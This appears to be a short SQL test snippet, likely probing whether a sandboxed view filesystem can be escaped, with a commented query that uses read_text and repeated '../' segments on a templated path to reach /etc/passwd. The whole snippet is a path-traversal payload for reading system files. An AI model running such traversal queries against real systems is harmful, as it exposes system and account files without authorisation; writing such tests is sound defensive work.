-- Climb out of the views' filesystem with '..'.
SELECT content FROM read_text('{view_file}/../../../../../../../../etc/passwd')
